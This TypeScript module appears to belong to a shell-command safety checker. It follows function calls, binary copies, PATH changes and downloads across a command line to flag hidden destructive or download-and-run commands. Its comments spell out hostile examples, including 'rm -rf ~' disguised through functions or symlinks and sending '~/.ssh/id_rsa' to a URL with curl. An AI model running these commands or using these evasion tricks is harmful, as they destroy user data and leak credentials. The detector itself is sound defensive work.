/**
 * What earlier commands of a line change about later ones: a function defined on the line runs
 * its body at each call (`f(){ rm "$@"; }; f -rf ~`), `hash -p /bin/rm cat` makes `cat` rm,
 * `cp /bin/rm /tmp/x` makes `/tmp/x` rm, `exec -a rm busybox` runs busybox as rm, and a file
 * downloaded earlier (`curl -o i.sh URL`) then run or sourced is a pipe to a shell. Each call is
 * parsed again as the command it really is (inheriting the parse's state), so the checks see it.
 * Costs one Set lookup per command until a line defines or copies something.
 */

import type { Facts, SimpleCommand, Word } from "../../facts/types.js";
import type { Nest, Origin, Quiet, UnwrapResult } from "./types.js";
import { INTERPRETERS, SHELLS } from "./wrappers.js";
import { wholeDynamic } from "./strings.js";
import { codeVariables, isCodeVariable, type Assigned } from "./env-variables.js";
import { newWrittenFiles, recordNested, recordWrites, writesFile, type FileMap, type WrittenFiles } from "./written.js";
import { fetchedStep, fetchedTree, TREE_COMMANDS, type FetchedTrees } from "./fetched-trees.js";
import { codeWords } from "./run-target.js";
import { DOWNLOADERS, downloadedFiles, downloadedTree, throughWrappers } from "./downloads.js";
import { newValues, noteValues, readsKnown, type KnownValues, type Piece } from "./known-values.js";
import { hasDefault } from "./parameters.js";
import { inherited, loopValues, settleLoops } from "./loop-values.js";
import { withValues } from "./value-uses.js";
import { xargsInput } from "./xargs-input.js";

interface FunctionDef {
  body: string;
  end: number;
}

/** A body parsed again at a call repeats what its definition reported about reading it. */
const CALL_QUIET: Quiet = (id) => id === "injection/parse-error" || id === "shell/unsupported-syntax";

/** Bodies longer than this, or calls past this many per parse, are not expanded (the body was seen at its definition). */
const MAX_BODY = 2048;
const MAX_EXPANSIONS = 16;
/** A positional parameter: only a body using one can run something new at a call. */
const POSITIONAL = /\$(?:\{?[@*1-9])/;
/** A `for`/`select` header with no list (`for k; do`, `for k do`): it loops over the arguments. */
const IMPLICIT_LIST = /\b((?:for|select)\s+[A-Za-z_][A-Za-z0-9_]*)(\s*;\s*do\b|\s+do\b)/;
const IMPLICIT_LISTS = new RegExp(IMPLICIT_LIST.source, "g");

export interface LineState {
  functions: Map<string, FunctionDef>;
  /** A name or path → the program it runs ("" when only known at run time). */
  programs: Map<string, string>;
  /** Files written from the network earlier on the line. */
  downloads: Set<string>;
  /** Files written earlier on the line (written.ts). */
  written: WrittenFiles;
  /** The PATH the line set for the commands after it (`PATH=/tmp/b:$PATH`, `export PATH=…`), its own directories. */
  path: string[];
  /** Directories fetched earlier on the line (fetched-trees.ts), null until one is. */
  trees: FetchedTrees | null;
  expansions: number;
  /** Variables given a value earlier on the line or by a loop around (known-values.ts), null until one is. */
  values: KnownValues | null;
}

/** Made when a parse first meets something to remember; `outer`: files the parses around it wrote. */
export function newState(outer?: readonly FileMap[]): LineState {
  return { functions: new Map(), programs: new Map(), downloads: outerDownloads(outer), path: [], written: newWrittenFiles(outer), trees: outer === undefined ? null : outerTrees(outer), expansions: 0, values: null };
}

/** Files downloaded by the parses around a string (`curl -o i.sh URL; f=i.sh; bash $f` parses `bash i.sh` again). */
function outerDownloads(outer: readonly FileMap[] | undefined): Set<string> {
  const out = new Set<string>();
  if (outer !== undefined) for (const files of outer) for (const [path, w] of files) if (w.download === true) out.add(path);
  return out;
}

/** Trees fetched by the parses around a string (`git clone URL r; bash -c 'cd r && make'`), kept in their written files. */
function outerTrees(outer: readonly FileMap[]): FetchedTrees | null {
  let trees: FetchedTrees | null = null;
  for (const files of outer) for (const w of files.values()) if (w.tree !== undefined) (trees ??= { dirs: new Map(), inside: null, reported: false }).dirs.set(w.tree, w.by);
  return trees;
}

/** Commands that change what a later name runs, or write a download. */
const RECORDS: ReadonlySet<string> = new Set(["hash", "cp", "ln", "install", "mv", "tee", "exec", "script", ...DOWNLOADERS]);
const DECLARES: ReadonlySet<string> = new Set(["export", "declare", "typeset", "local", "readonly", "env"]);
const MULTI_CALL: ReadonlySet<string> = new Set(["busybox", "toybox"]);

/** The state of one parse: its function definitions, read from the source of each construct. */
export function lineStateOf(facts: Facts, outer?: readonly FileMap[], values?: ReadonlyMap<string, Piece[][]>): LineState | null {
  let state: LineState | null = outer === undefined ? null : newState(outer);
  // A string run by the line sees the values the line gave its variables (`export k=…; bash -c '…$k…'`).
  if (values !== undefined) (state ??= newState()).values = inherited(facts, values);
  let loops = false;
  let later = false;
  for (const c of facts.constructs) {
    loops ||= c.type === "for_statement";
    later ||= LATER.has(c.type);
    if (c.type !== "function_definition") continue;
    const text = facts.source.slice(c.start, c.end);
    const m = /^(?:function\s+)?([^\s(){}|;&<>$`"']+)\s*(?:\(\s*\))?\s*/.exec(text);
    const body = text.slice(m?.[0].length ?? 0);
    // A body without "$@"/$1 runs the same at every call: seeing it at its definition is enough.
    // One the grammar could not read was reported at its definition; parsing it again repeats that.
    if (m === null || body.length > MAX_BODY || !(POSITIONAL.test(body) || IMPLICIT_LIST.test(body)) || facts.errors.some((e) => e.start >= c.start && e.end <= c.end)) continue;
    state ??= newState();
    state.functions.set(m[1] as string, { body, end: c.end });
  }
  if (loops) {
    const found = loopValues(facts, state === null ? null : state.values);
    if (found !== null) (state ??= newState()).values = found;
  }
  // Code that runs after what follows it (a loop's next turn, a function, a trap string) sees every value.
  if (later || facts.source.includes("trap")) {
    let future: KnownValues | null = loopValues(facts, values === undefined ? null : inherited(facts, values));
    for (const sc of facts.commands) future = noteValues(sc, facts, future);
    if (future !== null) ((state ??= newState()).values ??= newValues(facts)).future = future;
  }
  return state;
}

/** Constructs whose commands may run after the commands that follow them. */
const LATER: ReadonlySet<string> = new Set(["for_statement", "while_statement", "c_style_for_statement", "function_definition"]);

const norm = (p: string): string => p.replace(/^(?:\.\/+)+/, "").replace(/\/+/g, "/");
const base = (p: string): string => p.slice(p.lastIndexOf("/") + 1);
/** A word as written, for code parsed again. */
const raw = (facts: Facts, w: Word): string => facts.source.slice(w.start, w.end);
const quote = (s: string): string => (/^[\w@%+=:,./~-]+$/.test(s) ? s : `'${s.replace(/'/g, "'\\''")}'`);

/**
 * Before a command is unwrapped: a call of a function or renamed program is parsed again as
 * what it runs; a downloaded file run is a finding. Returns the (possibly new) state.
 */
export function lineCommand(sc: SimpleCommand, facts: Facts, state: LineState | null, origin: Origin, out: UnwrapResult, nest: Nest): LineState | null {
  // `k=~/.ssh/id_rsa; curl -F f=@$k URL`: a use of a value set earlier is parsed again with it.
  const defaults = hasDefault(sc);
  if (state !== null && state.values !== null) settleLoops(state.values, sc, facts);
  const known = state !== null && state.values !== null ? state.values : defaults ? newValues(facts) : null;
  if (known !== null) withValues(sc, facts, known, origin, nest, out);
  const values = noteValues(sc, facts, state === null ? null : state.values, defaults);
  if (values !== null) (state ??= newState()).values = values;
  if (sc.assignments.length > 0) assignedCode(sc, facts, origin, out, nest);
  // `PATH=/tmp/b:$PATH` alone, or `export PATH=…`: the commands after it look names up there.
  const path = setPath(sc);
  if (path !== null) (state ??= newState()).path = pathDirs(path);
  // Recorded before the command is unwrapped; only later commands see it (Written.at).
  if (writesFile(sc)) {
    state ??= newState();
    recordWrites(sc, facts, state.written);
  }
  if (sc.argv[0] === undefined || sc.argv[0].dynamic !== null) return state;
  if (DECLARES.has(sc.argv[0].value)) declaredCode(sc, facts, origin, out, nest);
  // `echo ~/.bashrc | xargs -I{} cp evil {}`: what xargs reads, when the line shows it.
  if (sc.stage > 0 || sc.redirects.length > 0) xargsInput(sc, facts, origin, nest);
  // `sudo curl -o i.sh URL`, `env X=1 cp /bin/rm /tmp/x`: what the wrapped command records and runs.
  // `exec -a NAME prog` is recorded as exec itself (the applet it names).
  const inner = sc.argv[0].value === "exec" ? sc : throughWrappers(sc);
  const first = inner.argv[0];
  if (first === undefined || first.dynamic !== null) return state;
  const name = first.value;
  if (state !== null && state.trees !== null) fetchedStep(inner, facts, state.trees, origin, out);
  if (TREE_COMMANDS.has(name) && fetchedTree(inner, facts, state === null ? null : state.downloads) !== null) {
    state ??= newState();
    recordTree(inner, facts, state, sc.end);
  }
  // Most commands have no state to meet and record nothing: the range is made when one does.
  if (state === null && !RECORDS.has(name)) return state;
  const range: [number, number] = origin.range ?? [sc.start, sc.end];
  if (state !== null) {
    // A function is called by its own name (`sudo f` runs a program f, not the function).
    const fn = inner === sc ? state.functions.get(name) : undefined;
    // Arguments all known only at run time tell nothing the definition did not: `f "$x"` (unless
    // the line gave x a value).
    const values = state.values;
    if (fn !== undefined && sc.start >= fn.end && sc.argv.some((w, k) => k > 0 && (w.dynamic === null || (values !== null && readsKnown(w, values, sc)))) && state.expansions++ < MAX_EXPANSIONS) nest(withArguments(fn.body, sc.argv.slice(1), facts), range, { ...origin, speculative: origin.speculative ?? CALL_QUIET });
    const program = state.programs.size > 0 ? state.programs.get(norm(name)) ?? onPath(name, sc, state) : undefined;
    if (program === "") out.findings.push({ id: "shell/dynamic-command", message: `'${name}' is a copy of a program only known at run time; run the program by its own name.`, start: range[0], end: range[1] });
    else if (program !== undefined) nest(quote(program) + facts.source.slice(first.end, sc.end), range, null);
    if (state.downloads.size > 0) downloadedRun(sc, state.downloads, origin, out);
  }
  if (!RECORDS.has(name)) return state;
  state ??= newState();
  record(inner, facts, name, state, range, nest, out);
  return state;
}

/**
 * A function body with its positional parameters filled in from the call. `"$1"` and `"$@"`
 * (the whole quoted word) and unquoted `$1` become the call's words as written; inside a longer
 * double-quoted string the value is escaped for that string; inside single quotes nothing changes.
 */

function withArguments(text: string, args: readonly Word[], facts: Facts): string {
  // `for k; do` loops over the arguments: written out, they are put in like any "$@".
  const body = text.replace(IMPLICIT_LISTS, '$1 in "$@"$2');
  const rawArgs = args.map((w) => raw(facts, w));
  const pick = (p: string, list: readonly string[]): string => (p === "@" || p === "*" ? list.join(" ") : list[Number(p) - 1] ?? "");
  let out = "";
  let quote: "" | "'" | '"' = "";
  for (let i = 0; i < body.length; i++) {
    const ch = body[i] as string;
    if (ch === "\\" && quote !== "'") {
      out += body.slice(i, i + 2);
      i++;
      continue;
    }
    if (ch === "'" && quote !== '"') quote = quote === "'" ? "" : "'";
    else if (ch === '"' && quote !== "'") {
      const whole = /^"\$(?:\{([@*1-9])\}|([@*1-9]))"/.exec(body.slice(i, i + 7));
      if (quote === "" && whole !== null) {
        out += pick((whole[1] ?? whole[2]) as string, rawArgs) || '""';
        i += whole[0].length - 1;
        continue;
      }
      quote = quote === '"' ? "" : '"';
    } else if (ch === "$" && quote !== "'") {
      const m = /^\$(?:\{([@*1-9])\}|([@*1-9]))/.exec(body.slice(i, i + 5));
      if (m !== null) {
        const p = (m[1] ?? m[2]) as string;
        out += quote === '"' ? pick(p, args.map((w) => w.value.replace(/[\\"$`]/g, "\\$&"))) : pick(p, rawArgs);
        i += m[0].length - 1;
        continue;
      }
    }
    out += ch;
  }
  return out;
}

const COPIES: ReadonlySet<string> = new Set(["cp", "ln", "install", "mv"]);

/** `cp SRC DST` (ln, install, mv): DST runs what SRC runs, and is a download when SRC is. */
function copied(operands: readonly Word[], state: LineState): void {
  if (operands.length !== 2) return;
  const [src, dst] = operands as [Word, Word];
  const from = src.dynamic !== null ? "" : state.programs.get(norm(src.value)) ?? src.value;
  state.programs.set(norm(dst.value), from);
  if (from !== "") state.programs.set(norm(`${dst.value}/${base(from)}`), from);
  if (state.downloads.has(norm(src.value))) state.downloads.add(norm(dst.value));
}

function record(sc: SimpleCommand, facts: Facts, name: string, state: LineState, range: [number, number], nest: Nest, out: UnwrapResult): void {
  const argv = sc.argv;
  // `install -m 755 SRC DST`: an option's value is no operand.
  const operands = argv.filter((w, k) => k > 0 && (!w.value.startsWith("-") || w.dynamic !== null) && !(name === "install" && /^-[mogS]$/.test(argv[k - 1]?.value ?? "")));
  if (name === "hash") {
    const p = argv.findIndex((w) => /^-[a-z]*p$/.test(w.value));
    const path = argv[p + 1];
    const alias = argv[p + 2];
    if (p > 0 && path !== undefined && alias !== undefined) state.programs.set(alias.value, path.dynamic !== null ? "" : path.value);
  } else if (COPIES.has(name)) {
    copied(operands, state);
  } else if (DOWNLOADERS.has(name)) {
    downloads(sc, name, state);
  } else if (name === "tee" && sc.stage > 0) {
    const head = facts.commands.find((c) => c.pipeline === sc.pipeline && c.stage === 0)?.argv[0]?.value;
    if (head === "curl" || head === "wget") for (const w of operands) state.downloads.add(norm(w.value));
  } else if (name === "exec") {
    // `exec -a NAME busybox args`: a multi-call binary runs the applet its argv[0] names.
    const a = argv.findIndex((w) => w.value === "-a");
    const applet = argv[a + 1];
    const prog = argv[a + 2];
    if (a > 0 && applet !== undefined && prog !== undefined && MULTI_CALL.has(base(prog.value))) {
      nest(quote(applet.value) + facts.source.slice(prog.end, sc.end), range, null);
    }
  } else if (name === "script" && sc.stage > 0) {
    // `… | script -qc sh`: the shell script runs reads the pipe.
    const c = argv.findIndex((w) => /^-[a-zA-Z]*c$|^--command$/.test(w.value));
    const cmd = argv[c + 1]?.value.trim().split(/\s+/) ?? [];
    if (c > 0 && SHELLS.has(base(cmd[0] ?? "")) && cmd.slice(1).every((a) => /^-[a-zA-Z]+$/.test(a) && !a.includes("c"))) {
      out.findings.push({ id: "shell/pipe-to-shell", message: `Piping into script -c ${cmd[0]} runs whatever the previous command prints, unseen; save it to a file, read it, then run it.`, start: range[0], end: range[1] });
    }
  }
}

const isDownload = (sc: SimpleCommand): boolean => sc.argv[0]?.dynamic === null && DOWNLOADERS.has(sc.argv[0].value);

/** Whether a string run by a command writes a file a later command of the line may run. */
export function stringWrites(facts: Facts): boolean {
  return facts.commands.some((sc) => writesFile(sc) || isDownload(sc) || TREE_COMMANDS.has(sc.argv[0]?.value ?? ""));
}

/**
 * What a string run by a command wrote (`sh -c 'curl -o i.sh URL'; bash i.sh`, `sh -c "echo … >
 * x"; bash x`), recorded when that command (ending at `at`) is done, for the commands after it.
 */
export function recordString(facts: Facts, state: LineState, at: number): void {
  recordNested(facts, state.written, at);
  for (const sc of facts.commands) {
    if (isDownload(sc)) downloads(sc, (sc.argv[0] as Word).value, state, at);
    // `bash -c 'cp /bin/rm /tmp/x'; /tmp/x -rf ~`, and `d=/tmp/x; cp /bin/rm $d` parsed again.
    else if (COPIES.has(sc.argv[0]?.value ?? "")) copied(sc.argv.filter((w, k) => k > 0 && !w.value.startsWith("-")), state);
    else if (TREE_COMMANDS.has(sc.argv[0]?.value ?? "")) recordTree(sc, facts, state, at);
  }
}

/** A tree `sc` fetches, for the commands after `at` (and the strings they run). */
function recordTree(sc: SimpleCommand, facts: Facts, state: LineState, at: number): void {
  const tree = fetchedTree(sc, facts, state.downloads);
  if (tree !== null) addTree(state, tree, at);
}

function addTree(state: LineState, tree: { dir: string; by: string }, at: number): void {
  (state.trees ??= { dirs: new Map(), inside: null, reported: false }).dirs.set(tree.dir, tree.by);
  state.written.own.set(`\0tree:${tree.dir}`, { word: null, exact: false, by: tree.by, at, tree: tree.dir });
}

/**
 * `ln -s /bin/rm /tmp/b/ls && PATH=/tmp/b ls -rf ~`: a bare name found first in a directory of a
 * PATH set on the line (before the command, or for it) where the line put a program under that name.
 */
function onPath(name: string, sc: SimpleCommand, state: LineState): string | undefined {
  if (name.includes("/")) return undefined;
  const own = sc.assignments.find((a) => a.name === "PATH")?.value?.value;
  for (const dir of own !== undefined ? pathDirs(own) : state.path) {
    const program = state.programs.get(norm(`${dir}/${name}`));
    if (program !== undefined) return program;
  }
  return undefined;
}

/** The PATH value `sc` sets for the commands after it, or null. */
function setPath(sc: SimpleCommand): string | null {
  const first = sc.argv[0];
  if (first === undefined) return sc.assignments.find((a) => a.name === "PATH")?.value?.value ?? null;
  if (first.value !== "export" && first.value !== "declare" && first.value !== "typeset" && first.value !== "readonly") return null;
  const w = sc.argv.find((x) => x.value.startsWith("PATH="));
  return w === undefined ? null : w.value.slice(5);
}

/** The directories of a PATH value written on the line (`$PATH` and other run-time parts are the system's). */
function pathDirs(value: string): string[] {
  return value.split(":").filter((d) => d !== "" && !d.includes("$") && !d.includes("`"));
}

/** Records the files `sc` downloads (downloads.ts), for the commands after `at`. */
function downloads(sc: SimpleCommand, name: string, state: LineState, at = sc.end): void {
  for (const file of downloadedFiles(sc, name)) {
    state.downloads.add(norm(file));
    // Also a file the line wrote, unseen: a tool that reads it (`make`, `npm install`) runs it.
    state.written.own.set(norm(file), { word: null, exact: false, by: `${name}, a download`, at, download: true });
  }
  // `aws s3 sync s3://b/d ./d`: a directory filled from a bucket, like a clone.
  const tree = downloadedTree(sc, name);
  if (tree !== null) addTree(state, { dir: tree.dir.replace(/^(?:\.\/+)+(?=.)/, "").replace(/\/+/g, "/").replace(/(.)\/$/, "$1"), by: tree.by }, at);
}

/** A command that runs a downloaded file: as its name, or as the script of a shell or interpreter. */
function downloadedRun(sc: SimpleCommand, files: Set<string>, origin: Origin, out: UnwrapResult): void {
  const argv = sc.argv;
  // `./F`, `bash F`, `sudo sh F`, `. F`, `node -r ./F app.js`; not `jq . F` (a `.` operand is not
  // source), nor `python3 analyze.py F` (F is the script's data).
  const run = argv[0] === undefined ? [] : [[argv[0], true] as [Word, boolean], ...codeWords(argv)];
  for (const [w] of run) {
    if (w.dynamic === null && files.has(norm(w.value))) {
      const r = origin.range ?? [w.start, w.end];
      out.findings.push({ id: "shell/pipe-to-shell", message: `'${w.value}' was downloaded earlier on this line and is run unseen, like a pipe into a shell; download it, read it, then run it.`, start: r[0], end: r[1] });
      return;
    }
  }
  const name = base(argv[0]?.value ?? "");
  if (!INTERPRETERS.has(name) && name !== "source" && name !== ".") return;
  for (const r of sc.redirects) {
    if (r.op === "<" && r.target !== null && files.has(norm(r.target.value))) {
      const at = origin.range ?? [r.start, r.end];
      out.findings.push({ id: "shell/pipe-to-shell", message: `${name} reads '${r.target.value}', downloaded earlier on this line, unseen; download it, read it, then run it.`, start: at[0], end: at[1] });
    }
  }
}

/** `GIT_SSH_COMMAND='cmd' git fetch`, `LD_PRELOAD=x cmd`: what the variables make the command run. */
function assignedCode(sc: SimpleCommand, facts: Facts, origin: Origin, out: UnwrapResult, nest: Nest): void {
  let assigned: Assigned[] | null = null;
  for (const a of sc.assignments) {
    if (a.value === null || !isCodeVariable(a.name)) continue;
    (assigned ??= []).push({ name: a.name, value: a.value.value, unknown: wholeDynamic(a.value), word: a.value });
  }
  const first = sc.argv[0];
  if (assigned !== null) codeVariables(assigned, first === undefined ? null : facts.source.slice(first.start, sc.end), origin, out, nest);
}

/** `export GIT_SSH_COMMAND='cmd'`, `env RSYNC_RSH='cmd' rsync …`. */
function declaredCode(sc: SimpleCommand, facts: Facts, origin: Origin, out: UnwrapResult, nest: Nest): void {
  let assigned: Assigned[] | null = null;
  let last = 0;
  for (let k = 1; k < sc.argv.length; k++) {
    const w = sc.argv[k] as Word;
    const eq = w.value.indexOf("=");
    if (eq <= 0) continue;
    last = k;
    const name = w.value.slice(0, eq);
    if (!isCodeVariable(name)) continue;
    const unknown = w.dynamic !== null && w.dynamic.length === 1 && w.dynamic[0]?.[0] === eq + 1 && w.dynamic[0][1] === w.value.length;
    (assigned ??= []).push({ name, value: w.value.slice(eq + 1), unknown, word: w });
  }
  if (assigned === null) return;
  // `env A=b git y`: the variables apply to the command after them; `export` to later ones.
  const after = sc.argv[last + 1];
  codeVariables(assigned, sc.argv[0]?.value === "env" && after !== undefined ? facts.source.slice(after.start, sc.end) : null, origin, out, nest);
}
